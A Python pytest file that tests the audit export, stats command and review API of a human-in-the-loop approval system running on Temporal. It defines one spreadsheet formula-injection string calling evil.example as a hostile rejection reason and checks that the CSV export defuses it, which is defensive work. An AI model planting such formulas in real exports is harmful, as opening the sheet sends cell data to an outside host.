"""The audit export and the figures over a real dev server: `hitl audit --since`, `hitl
stats`, and the API's /audit and /insights, complete across a continue-as-new chain.

Other tests share the dev server and leave runs behind whose workers have gone: an
export names those as problems (and exits 1). What is checked here is that our runs are
all there, every decision of them, and that a problem never names a run of ours.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from temporalio.client import Client, WorkflowHandle
from temporalio.common import SearchAttributePair, TypedSearchAttributes
from temporalio.testing import WorkflowEnvironment

from hitl import contract
from hitl.export import CSV_COLUMNS, iter_csv
from hitl.insights import Insights
from hitl.models import ApprovalRecord, RunLimits
from hitl.reviews import Reviews
from tests.helpers import continue_as_new_by_junk, decision, start_run, turn, wait_pending
from tests.review_api import ServedApi, write_reviewers
from tests.test_cli import Hitl
from worker import build_worker

pytestmark = pytest.mark.usefixtures("worker")
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1,"details")'


@pytest.fixture
def hitl(env: WorkflowEnvironment, task_queue: str) -> Hitl:
    return Hitl(env.client.service_client.config.target_host, task_queue)


@pytest.fixture
async def api(env: WorkflowEnvironment, tmp_path: Path) -> AsyncIterator[tuple[ServedApi, dict]]:
    reviewers = tmp_path / "reviewers.toml"
    tokens = write_reviewers(reviewers)  # carol may read write_file only
    async with ServedApi(env.client, reviewers) as served:
        yield served, tokens


async def chain(client: Client, task_queue: str, workspace: Path) -> WorkflowHandle:
    """A run with two approvals, one decided in each of its two runs: approved by alice
    (and approved again, refused), then, after it continued as new, rejected by bob with
    a reason a spreadsheet would run as a formula."""
    script = [
        turn(("delete_files", {"paths": ["logs/old-1.log"]})),
        turn(("delete_files", {"paths": ["logs/old-2.log"]})),
    ]
    handle = await start_run(
        client, task_queue, workspace, script=script, limits=RunLimits(continue_as_new_events=200)
    )
    [first] = await wait_pending(handle)
    await handle.signal(contract.SIGNAL_APPROVE, decision(first.id, "alice", decision_id="d-1"))
    await handle.signal(contract.SIGNAL_APPROVE, decision(first.id, "alice", decision_id="d-2"))
    for _ in range(400):
        if [r for r in await wait_pending(handle) if r.id != first.id]:
            break
        await asyncio.sleep(0.05)
    latest = await continue_as_new_by_junk(client, handle)
    [second] = [r for r in await wait_pending(latest) if r.id != first.id]
    await latest.signal(
        contract.SIGNAL_REJECT,
        decision(second.id, "bob", reason=HOSTILE_REASON, decision_id="d-3"),
    )
    await asyncio.wait_for(latest.result(), timeout=30)
    return handle


def ours_only(problems: list[str], workflow_id: str) -> None:
    assert not [p for p in problems if workflow_id in p], problems


def decisions_of(records: list[ApprovalRecord]) -> set[tuple[str, str | None, str, str, str]]:
    return {
        (r.id, d.decision_id, d.kind.value, d.reviewer, d.outcome)
        for r in records
        for d in r.decisions
    }


async def test_export_and_figures_are_complete_across_a_continue_as_new_chain(
    client: Client,
    task_queue: str,
    workspace: Path,
    hitl: Hitl,
    api: tuple[ServedApi, dict[str, str]],
    tmp_path: Path,
) -> None:
    # From the test's start: runs that ended before it (other tests') are not read.
    since = datetime.now(UTC).isoformat()
    handle = await chain(client, task_queue, workspace)
    audit = await Reviews(client).audit(handle.id)
    assert len(audit.runs) >= 2 and len(audit.approvals) == 2
    expected = decisions_of(audit.approvals)
    assert {d[1] for d in expected} >= {"d-1", "d-2", "d-3"}
    assert "refused" in {d[4] for d in expected} and len(expected) == 3

    # JSON Lines on stdout: one approval a line, exactly as the run keeps it.
    code, out, err = await hitl("audit", "--since", since, "--format", "jsonl")
    *rows, end = [json.loads(line) for line in out.splitlines()]
    assert end["end"] is True and code == (0 if end["complete"] else 1), err
    ours_only(end["problems"], handle.id)
    mine = [ApprovalRecord.model_validate(r) for r in rows if r["workflow_id"] == handle.id]
    assert sorted(mine, key=lambda r: r.id) == sorted(audit.approvals, key=lambda r: r.id)
    assert decisions_of(mine) == expected
    assert {r["outcome"] for r in rows if r["workflow_id"] == handle.id} == {
        "approved",
        "rejected",
    }

    # CSV to a file: one row per decision, the formula made text.
    out_file = tmp_path / "audit.csv"
    code, out, err = await hitl(
        "audit", "--since", since, "--format", "csv", "--output", str(out_file)
    )
    assert "wrote" in err and out == ""
    text = out_file.read_text()
    table = list(iter_csv(text))
    assert list(table[0]) == list(CSV_COLUMNS)
    assert table[-1]["row"] == "end" and code == (0 if "; complete" in table[-1]["note"] else 1)
    mine_rows = [r for r in table if r["workflow_id"] == handle.id]
    assert {
        (r["approval_id"], r["decision_id"] or None, r["decision_kind"], r["decision_reviewer"],
         r["decision_outcome"])
        for r in mine_rows
    } == expected  # fmt: skip
    assert len(mine_rows) == len(expected)
    rejected = [r for r in mine_rows if r["decision_id"] == "d-3"]
    assert [r["decision_reason"] for r in rejected] == ["'" + HOSTILE_REASON]
    assert HOSTILE_REASON not in text.replace("'" + HOSTILE_REASON, "")
    assert all(not r["reason"].startswith("=") for r in table)

    # One run's audit, as before.
    code, out, err = await hitl("audit", handle.id)
    assert code == 0 and all(a.id in out for a in audit.approvals), err

    # Figures.
    code, out, err = await hitl("stats", "--since", since, "--json")
    figures = Insights.model_validate_json(out)
    delete = next(t for t in figures.tools if t.name == "delete_files")
    assert delete.approved >= 1 and delete.rejected >= 1
    assert {"alice", "bob"} <= {r.name for r in figures.reviewers}
    ours_only(figures.problems, handle.id)

    # The API: a token is needed; each reviewer sees the tools they may read.
    served, tokens = api
    async with served.http() as anyone:
        assert (await anyone.get("/audit", params={"since": since})).status_code == 401
        assert (await anyone.get("/insights")).status_code == 401
    async with served.http(tokens["bob"]) as bob:
        answer = await bob.get("/audit", params={"since": since, "format": "csv"})
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        api_rows = [r for r in iter_csv(answer.text) if r["workflow_id"] == handle.id]
        assert len(api_rows) == len(expected)
        assert api_rows[-1:] and list(iter_csv(answer.text))[-1]["row"] == "end"
        figures = Insights.model_validate(
            (await bob.get("/insights", params={"since": since})).json()
        )
        assert figures.approvals >= 2 and figures.tools
        for params, said in [
            ({"since": "soon"}, "since"),
            ({"since": "0d"}, "not a duration"),
            ({"since": "2099-01-01"}, "in the future"),
            ({"since": "1h", "until": "2h"}, "before it begins"),
            ({"since": "1h", "format": "xml"}, "format"),
            ({}, "since"),
        ]:
            answer = await bob.get("/audit", params=params)
            assert answer.status_code == 422 and said in answer.json()["detail"], answer.text
        assert (await bob.get("/insights?min_rate=2")).status_code == 422
    async with served.http(tokens["carol"]) as carol:
        answer = await carol.get("/audit", params={"since": since})
        assert answer.headers["content-type"].startswith("application/jsonl")
        lines = [json.loads(line) for line in answer.text.splitlines()]
        assert [r for r in lines if r.get("workflow_id") == handle.id] == []
        assert lines[-1]["withheld"] >= 2
        figures = Insights.model_validate(
            (await carol.get("/insights", params={"since": since})).json()
        )
        assert "delete_files" not in {t.name for t in figures.tools}
        assert figures.withheld >= 2


async def test_ranges_that_cannot_be_read_are_usage_errors(hitl: Hitl) -> None:
    for args, said in [
        (["audit"], "name a run"),
        (["audit", "--since", "soon"], "neither a duration"),
        (["audit", "--since", "1d", "--until", "2d"], "before it begins"),
        (["audit", "some-run", "--since", "1d"], "not both"),
        (["stats", "--since", "0m"], "not a duration"),
        (["stats", "--min-rate", "1.5"], "rate"),
        (["audit", "--since", "1d", "--output", "/nonexistent/dir/a.csv"], "can't write"),
    ]:
        code, out, err = await hitl(*args)
        assert code == 2 and said in err and out == "", (args, err)


async def test_a_run_that_cannot_be_read_is_named_and_the_export_says_it_is_short(
    client: Client, hitl: Hitl, workspace: Path
) -> None:
    # From this test's start: a range read skips runs that changed nothing since (the
    # dev server keeps every earlier test's runs, some stranded without workers).
    since = datetime.now(UTC).isoformat()
    # A run waits for approval, and its worker goes away: nothing can answer for it.
    queue = f"tq-gone-{uuid.uuid4().hex[:8]}"
    async with build_worker(client, queue):
        handle = await start_run(
            client, queue, workspace, script=[turn(("delete_files", {"paths": ["logs/x.log"]}))]
        )
        await wait_pending(handle)
    # And one on a task queue no worker ever polled: said at once, not after a query's
    # timeout (it says the same).
    never = await client.start_workflow(
        contract.WORKFLOW_NAME,
        {},
        id=f"never-{uuid.uuid4().hex[:8]}",
        task_queue=f"tq-nobody-{uuid.uuid4().hex[:8]}",
        search_attributes=TypedSearchAttributes([SearchAttributePair(contract.STATE_KEY, "x")]),
    )
    began = datetime.now(UTC)
    try:
        code, out, err = await hitl("audit", "--since", since, "--format", "jsonl")
        end = json.loads(out.splitlines()[-1])
        assert code == 1 and end["complete"] is False
        assert any(handle.id in problem for problem in end["problems"])
        [unpolled] = [problem for problem in end["problems"] if never.id in problem]
        assert "no worker has polled its task queue" in unpolled
        assert handle.id in err and "incomplete" in err
        code, out, err = await hitl("stats", "--since", since, "--json")
        assert code == 1 and Insights.model_validate_json(out).complete is False
        assert handle.id in err
    finally:
        await handle.terminate("test over")
        await never.terminate("test over")
    assert datetime.now(UTC) - began < timedelta(seconds=60)


async def test_figures_that_take_too_long_to_read_come_back_incomplete(
    api: tuple[ServedApi, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Any reviewer may ask for ten years of figures: the request answers within a bound,
    # saying its figures are short, rather than holding the API for as long as it takes.
    from hitl.api.routers import insights

    monkeypatch.setattr(insights, "INSIGHTS_SECONDS", 0.0)
    served, tokens = api
    async with served.http(tokens["bob"]) as bob:
        answer = await bob.get("/insights", params={"since": "3650d"})
    assert answer.status_code == 200, answer.text
    figures = Insights.model_validate(answer.json())
    assert figures.complete is False
    assert any("stopped reading runs after 0 s" in p for p in figures.problems)
